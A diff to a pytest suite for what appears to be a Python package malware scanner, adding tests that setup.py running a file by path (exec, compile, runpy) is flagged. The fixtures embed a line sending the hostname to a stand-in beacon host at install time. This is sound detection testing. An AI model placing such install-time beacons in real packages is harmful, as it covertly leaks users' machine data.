@@ -82,7 +82,9 @@ def test_function_called_at_import_from_another_module_runs_at_import(tmp_path: 
     assert beacons_at_import(findings), findings
 
 
-CLASS_TIME_HELPERS = BEACON + """
+CLASS_TIME_HELPERS = (
+    BEACON
+    + """
 class Base:
     def __init_subclass__(cls, **kwargs):
         super().__init_subclass__(**kwargs)
@@ -97,6 +99,7 @@ class Meta(type):
         beacon()
         return super().__new__(mcs, name, bases, namespace)
 """
+)
 
 
 @pytest.mark.parametrize(
@@ -137,6 +140,42 @@ def test_pth_dynamic_import_call_runs_the_reexported_function_at_startup(tmp_pat
     verdict, findings = scan_files(tmp_path, files)
     assert verdict is Verdict.MALICIOUS, findings
     assert any(f.startswith("install-beacon:critical:Context.STARTUP") for f in findings), findings
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        f'ns = {{}}\nexec(open("{PKG}/_build_info.py").read(), ns)\n',
+        f'exec(compile(open("{PKG}/_build_info.py").read(), "_build_info.py", "exec"))\n',
+        f'import runpy\nrunpy.run_path("{PKG}/_build_info.py")\n',
+    ],
+    ids=["exec-open-read", "exec-compile", "runpy-run-path"],
+)
+def test_a_file_setup_py_runs_by_path_runs_at_install(tmp_path: Path, run: str) -> None:
+    info = "import socket, requests\n__version__ = '1.0'\n" + (
+        "requests.get('https://beacon.example.invalid/b?h=' + socket.gethostname())\n"
+    )
+    setup = f"from setuptools import setup\n{run}setup(name='{PKG}', version='1.0')\n"
+    path = write_sdist(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/_build_info.py": info}, setup_py=setup)
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    assert result.verdict is Verdict.MALICIOUS, result.findings
+    assert any(
+        f.rule == "install-beacon" and f.context is not None and f.context.value == "install"
+        for f in result.findings
+    ), result.findings
+
+
+def test_a_version_file_setup_py_runs_by_path_benign_twin(tmp_path: Path) -> None:
+    # the version idiom, with a function that beacons only when called: nothing runs it
+    info = BEACON + "__version__ = '1.0'\n"
+    setup = (
+        f"from setuptools import setup\nns = {{}}\nexec(open('{PKG}/_version.py').read(), ns)\n"
+        f"setup(name='{PKG}', version=ns['__version__'])\n"
+    )
+    path = write_sdist(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/_version.py": info}, setup_py=setup)
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    assert result.verdict is not Verdict.MALICIOUS, result.findings
+    assert not any(f.rule == "install-beacon" for f in result.findings), result.findings
 
 
 PADDING = "".join(
